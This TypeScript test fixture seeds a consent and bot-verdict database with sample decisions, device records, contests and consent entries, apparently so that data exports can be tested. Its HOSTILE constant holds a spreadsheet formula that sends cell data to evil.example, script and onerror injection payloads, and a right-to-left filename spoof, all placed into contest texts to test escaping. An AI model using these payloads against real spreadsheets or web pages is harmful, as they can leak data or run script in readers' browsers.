import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createConsentAppender } from '../../../src/consent/append-store.ts';
import { createMarker } from '../../../src/consent/doubts-store.ts';
import { listState } from '../../../src/consent/terms-store.ts';
import type { Database } from '../../../src/db/engine.ts';
import { RULES } from '../../../src/ingest/verdict/classify.ts';
import type { Verdict } from '../../../src/ingest/verdict/verdict.ts';
import { answerComplaint } from '../../../src/rights/contests/complaint.ts';
import { type ContestTexts, contestTextsOf, fileContest } from '../../../src/rights/contests/contest.ts';
import { insertContest } from '../../../src/rights/contests/store.ts';
import { linkRequest } from '../../../src/rights/link-store.ts';
import { principalRef } from '../../../src/tenants/tenant.ts';
import { runGpd, tempDir } from '../../support/command.ts';
import { KID } from '../../support/constants.ts';
import { insertBatches } from '../../support/database.ts';
import { createConsentState, createVerdict, DAY, NOW } from '../../support/make.ts';
import { initGpd } from '../../support/server.ts';
import { open } from '../support/eraser.ts';

/** An installation with somebody in every table that an export reads. */

const ALPHABET = '0123456789ABCDEFGHJKMNPQRSTVWXYZ';

/** Ordered as its number is. */
export function requestId(n: number): string {
  let text = '';
  for (let rest = n; text.length < 12; rest = Math.floor(rest / 32)) text = ALPHABET[rest % 32] + text;
  return `req_01KAG000000000${text}`;
}

/** Everything that a spreadsheet, a browser or a reader could fall for. */
export const HOSTILE =
  '=HYPERLINK("http://evil.example/?x="&A1,"click")\r\n<script>alert(1)</script><img src=x onerror=alert(2)>\n' +
  '"quoted", comma; \u202Egpj.exe\u202C </style></dd>\u0000 &amp; נכון';

const DURABLE = 'durable-of-mallory';
export const VISITOR = '-AbCdEfGhIjKlMnOpQrStU';
export const PRINCIPAL = 'customer-4711';

const fired = (...ids: string[]): Verdict['rules'] =>
  RULES.filter(({ id }) => ids.includes(id)).map(({ id, weight, kind }) => ({ id, weight, kind }));

/** The decisions take turns, so that each class, override and defence is among any five of them. */
function verdictOf(n: number, durable: string | null): Verdict {
  const parts: Partial<Verdict>[] = [
    { class: 'human', suspectScore: 0.02, rules: fired('W2'), defenses: ['firefox-rfp'] },
    { class: 'undeclared_automation', suspectScore: 1, rules: fired('A1', 'T3', 'W2'), confidence: 0.99 },
    { class: 'unknown', suspectScore: 0.35, rules: fired('M1', 'M2'), needsAttestation: true },
    { class: 'declared_agent', declaredAgentId: 'https://agent.example', suspectScore: 0 },
    { class: 'human', overridden: true, defenses: ['brave'], attested: { by: 'passkey', deviceBound: true } },
  ];
  return createVerdict({
    requestId: requestId(n),
    decidedAt: NOW + n * 1000,
    durable,
    epoch: durable === null ? null : 680,
    consentState: createConsentState(),
    policyVersion: '2026-11-20.6',
    ...parts[n % parts.length],
  });
}

export async function insertDecisions(
  database: Database,
  durable: string,
  range: { readonly from: number; readonly count: number },
): Promise<void> {
  const BATCH = 400;
  for (let from = range.from; from < range.from + range.count; from += BATCH) {
    const count = Math.min(BATCH, range.from + range.count - from);
    const rows = Array.from({ length: count }, (_, i) => {
      const verdict = verdictOf(from + i, durable);
      const { requestId: id, decidedAt, class: name } = verdict;
      const row = { kid: KID, request_id: id, decided_at: decidedAt, class: name, durable };
      return { ...row, verdict: JSON.stringify(verdict), salt: 'salt', commitment: 'commitment' };
    });
    await database.transaction((tx) => insertBatches(tx, 'decisions', rows));
  }
}

async function insertDevice(database: Database): Promise<void> {
  await database.transaction(async (tx) => {
    const common = { kid: KID, durable: DURABLE };
    const times = { first_at: NOW, last_at: NOW + 5000, seen: 5 };
    await tx('sightings').insert({ ...common, ...times });
    const ends = 681 * 30 * 86_400_000;
    await tx('visitor_index').insert({ ...common, visitor_id: VISITOR, epoch: 680, ends_at: ends });
    const key = { public_key: 'key', counter: 0, device_bound: true, created_at: NOW, last_at: NOW + 1 };
    await tx('credentials').insert({ ...common, ...key });
    await tx('network_days').insert({ ...common, day: DAY, networks: 2 });
    await tx('overrides').insert({ ...common, created_at: NOW + 9000, request_id: requestId(1) });
    const ofRequest = { kid: KID, request_id: requestId(1) };
    const summary = JSON.stringify({ devices: 80, signals: [{ name: 'canvas', bits: 6.3 }] });
    await tx('signal_summaries').insert({ ...ofRequest, expires_at: NOW * 2, summary });
    await tx('decision_outcomes').insert({ ...ofRequest, outcome: 'passed-step-up', at: NOW + 8000 });
  });
}

async function insertContests(database: Database, words: ContestTexts): Promise<void> {
  const filing = (n: number, statement: string | null) => ({
    kid: KID,
    contestId: `con_01KAG0000000000000000000A${n}`,
    requestId: requestId(n),
    durable: DURABLE,
    class: 'undeclared_automation',
    filedBy: 'filed-by-reference',
    statement,
  });
  const resolved = {
    ...fileContest(filing(1, HOSTILE), NOW),
    status: 'resolved' as const,
    outcome: 'overturned' as const,
    reason: `A screen reader drove the browser. ${HOSTILE}`,
    resolvedAt: NOW + 9000,
    resolvedBy: { role: 'reviewer' as const, ref: 'reviewer-reference' },
    resolvedLabel: 'Rita Resolver',
    version: 2,
  };
  const by = { by: 'first-reference', label: 'Rita First', at: NOW + 1 };
  const proposal = { outcome: 'upheld' as const, reason: 'two of two', ...by };
  const earlier = [{ question: 'Which system was it?', answer: `An old one. ${HOSTILE}` }];
  const answer = `Firefox, with a screen reader. ${HOSTILE}`;
  const open = {
    ...fileContest({ ...filing(2, null), email: 'anna@example.org' }, NOW),
    question: 'Which browser was it?',
    answer,
    earlier,
    proposal,
  };
  const received = fileContest({ ...filing(3, HOSTILE), kind: 'complaint', email: 'anna@example.org' }, NOW);
  const outcome = { text: HOSTILE, role: 'dpo', by: 'dpo-reference' } as const;
  const complaint = {
    ...answerComplaint(received, outcome, NOW + 3000),
    question: 'When?',
    answer: 'On Monday.',
    earlier: [{ question: 'Where?', answer: 'Here.' }],
  };
  await database.transaction(async (tx) => {
    await insertContest(tx, words, resolved);
    await insertContest(tx, words, open);
    await insertContest(tx, words, complaint);
  });
}

export type Held = Awaited<ReturnType<typeof holdSomebody>>;

/** Mallory's device with five decisions and two contests; a customer with a link to one of them, and consent. */
export async function holdSomebody() {
  const { dataDir } = await initGpd([
    { kid: KID, origins: ['https://shop.example'] },
    { kid: 'other', origins: [] },
  ]);
  const env = { GPD_DATA_DIR: dataDir };
  const { database, tenant } = await open(dataDir);
  await insertDecisions(database, DURABLE, { from: 0, count: 5 });
  await insertDecisions(database, 'somebody-else', { from: 100, count: 3 });
  await insertDevice(database);
  await insertContests(
    database,
    contestTextsOf(() => tenant),
  );
  const principal = principalRef(tenant.principalKey, PRINCIPAL);
  const link = { kid: KID, requestId: requestId(101), principal, linkedAt: NOW };
  await database.transaction((tx) => linkRequest(tx, link));
  const detail = { policyVersion: 0, gpc: true, source: 'session', expiresAt: NOW, overGpc: true } as const;
  await createConsentAppender(database).append({
    kid: KID,
    since: tenant.since,
    wrapKey: tenant.principalWrap,
    stateMac: tenant.stateMac,
    principalId: PRINCIPAL,
    principal,
    gpc: true,
    isGrant: true,
    now: NOW,
    idempotency: null,
    entries: [{ purpose: 'device-identification', choice: 'granted', detail }],
    notify: () => [],
  });
  const [state] = await listState(database, KID, [principal]);
  const doubt = { class: 'undeclared_automation', source: 'ingest' } as const;
  const mark = { tenant, principal, seq: state?.seq ?? -1, detail: doubt, principalId: PRINCIPAL, at: NOW };
  await createMarker(database).submit(mark);
  await database.close();
  const cli = (...args: string[]) => runGpd(args, { env });
  for (const action of ['grant', 'withdraw']) {
    const ran = await cli('consent', action, KID, PRINCIPAL, 'device-identification');
    if (ran.code !== 0) throw new Error(ran.stderr);
  }
  return { dataDir, env, cli };
}

/** Unpacked by Info-ZIP and not by what packed it. */
export function unpack(archive: string): string {
  const directory = tempDir('unpacked');
  run('unzip', ['-q', archive, '-d', directory]);
  return directory;
}

/** @throws {Error} when it does not end with 0 */
export function run(program: string, args: readonly string[]): string {
  const { status, stdout, stderr, error } = spawnSync(program, args, { encoding: 'utf8' });
  if (status !== 0) throw new Error(`${program} ended with ${status}: ${stderr}${error?.message ?? ''}`);
  return stdout;
}

export function missingTool(program: string, flag: string): string | null {
  const there = spawnSync(program, [flag]).error === undefined;
  return there ? null : `${program} is not installed (apt-get install ${program})`;
}

/** A recipient as openssl makes one. */
export function createRecipient(...options: string[]): {
  readonly certificate: string;
  readonly key: string;
} {
  const directory = tempDir('recipient');
  const [certificate, key] = [join(directory, 'cert.pem'), join(directory, 'key.pem')];
  const kind = options.length > 0 ? options : ['-newkey', 'rsa:2048'];
  const names = ['-subj', '/CN=Dr. Ada Dpo/O=Ministry "of" Data', '-days', '30'];
  run('openssl', ['req', '-x509', '-nodes', ...kind, ...names, '-keyout', key, '-out', certificate]);
  return { certificate, key };
}

export function write(path: string, content: string | Uint8Array): string {
  writeFileSync(path, content);
  return path;
}
